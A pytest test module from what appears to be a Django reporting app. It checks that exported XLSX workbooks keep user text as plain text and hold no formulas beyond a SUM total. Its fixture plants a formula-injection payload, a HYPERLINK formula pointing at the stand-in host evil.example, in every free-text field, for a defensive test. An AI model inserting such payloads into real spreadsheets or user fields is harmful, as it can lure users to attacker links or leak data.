"""docs/security.md “Files”: every XLSX the product writes keeps user and imported text as text. A hostile
value sits in every user-supplied text field of the data set (names, positions, departments,
content, location, results, shortcomings, proposals, summaries, comments, notes, the plan's
and organization's texts); every workbook is built and every cell read back: the "Tổng" =SUM
is the only formula, and control characters XLSX cannot hold are dropped, not fatal."""

import re

import pytest
from django.db import models
from openpyxl import load_workbook

from accounts.models import Department, Organization, User
from fieldwork.models import (
    Category,
    ChangeRequest,
    DepartmentPlan,
    Exemption,
    ExemptionReason,
    Group,
    Plan,
    QuarterReport,
    Registration,
    Trip,
)

pytestmark = pytest.mark.django_db

# Identifiers and codes the product matches on (validated against the plan on input).
NOT_FREE_TEXT = {
    "code",
    "pending_email",
    "template_code",
    "province_code",
    "ward_code",
    "sort_key",
    "password",
    "group_code",
    "calendar_token",
}
PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
SUM = re.compile(r"^=SUM\([A-Z]+\d+:[A-Z]+\d+\)$")


def text_fields(model):
    return [
        f.name
        for f in model._meta.get_fields()
        if isinstance(f, models.CharField | models.TextField)
        and not f.choices
        and f.name not in NOT_FREE_TEXT
        and getattr(f, "editable", True)
    ]


def poison(report_data) -> dict[str, str]:
    """Every free-text field of every object of the organization gets its own hostile value."""
    org = report_data["org"]
    scopes = {
        Organization: Organization.objects.filter(pk=org.pk),
        Department: Department.objects.filter(organization=org),
        User: User.objects.filter(organization=org),
        Plan: Plan.objects.filter(organization=org),
        Group: Group.objects.filter(plan__organization=org),
        Category: Category.objects.filter(plan__organization=org),
        ExemptionReason: ExemptionReason.objects.filter(plan__organization=org),
        Exemption: Exemption.objects.filter(person__organization=org),
        Registration: Registration.objects.filter(plan__organization=org),
        Trip: Trip.objects.filter(plan__organization=org),
        ChangeRequest: ChangeRequest.objects.filter(trip__plan__organization=org),
        DepartmentPlan: DepartmentPlan.objects.filter(plan__organization=org),
        QuarterReport: QuarterReport.objects.filter(plan__organization=org),
    }
    markers = {}
    i = 0
    for model, qs in scopes.items():
        for field in text_fields(model):
            for pk in qs.values_list("pk", flat=True):
                prefix = PREFIXES[i % len(PREFIXES)]
                marker = f"{model.__name__}.{field}.{pk}"
                value = f'{prefix}HYPERLINK("http://evil.example/{marker}","x")\x01\x0b'
                model.objects.filter(pk=pk).update(**{field: value[: model._meta.get_field(field).max_length or None]})
                markers[marker] = prefix
                i += 1
    return markers


@pytest.fixture
def hostile(report_data):
    return poison(report_data)


def cells(path):
    wb = load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            yield from row


def test_every_workbook_keeps_hostile_text_as_text(build, report_data, hostile):
    built = {
        "mau1": build("mau1", "xlsx", cadre=report_data["cadre"], quarter=1),
        "mau2": build("mau2", "xlsx", department=report_data["d1"], quarter=1),
        "mau3": build("mau3", "xlsx", department=report_data["d1"], quarter=1),
        "compliance": build("compliance", "xlsx", quarter=1),
    }
    seen = set()
    formulas = []
    for kind, path in built.items():
        for c in cells(path):
            if c.data_type == "f":
                formulas.append((kind, c.coordinate, c.value))
                continue
            if isinstance(c.value, str):
                assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", c.value), (kind, c.coordinate, c.value)
                for marker in re.findall(r"evil\.example/([\w.]+)", c.value):
                    seen.add(marker)
                    if c.value.startswith(tuple(PREFIXES)):
                        assert c.quotePrefix, (kind, c.coordinate, c.value)  # Excel keeps it text on edit
    # The one formula the product writes: the "Tổng" of mẫu 2/3 when it has rows.
    assert formulas and all(SUM.match(v) for _k, _c, v in formulas), formulas
    # The hostile values did reach the files (so the check above saw them).
    fields_seen = {m.rsplit(".", 1)[0] for m in seen}
    assert {
        "User.full_name",
        "User.position",
        "Department.name",
        "Trip.location",
        "Trip.content",
        "Trip.results",
        "Trip.shortcomings",
        "Trip.proposals",
        "QuarterReport.summary",
        "User.email",
    } <= fields_seen, sorted(fields_seen)


def test_a_value_that_looks_like_an_error_code_stays_text(build, report_data):
    User.objects.filter(pk=report_data["cadre"].pk).update(position="#N/A")
    path = build("compliance", "xlsx", quarter=1)
    found = [c for c in cells(path) if c.value == "#N/A"]
    assert found and all(c.data_type == "s" for c in found)


def test_control_characters_are_refused_on_input_and_what_was_typed_is_kept(client, people):
    from tests.security.test_account_takeover import edit_data, edit_url

    cadre = people["cadre"]
    before = cadre.position
    client.force_login(people["board"])
    resp = client.post(edit_url(cadre), edit_data(cadre, position="Chuyên\x07viên", full_name="Trần Thị Dung"))
    assert resp.status_code == 200
    html = resp.content.decode()
    assert "Nội dung có ký tự điều khiển không hiển thị được" in html
    assert resp.context["form"].data["position"] == "Chuyên\x07viên"  # kept for correction
    cadre.refresh_from_db()
    assert cadre.position == before
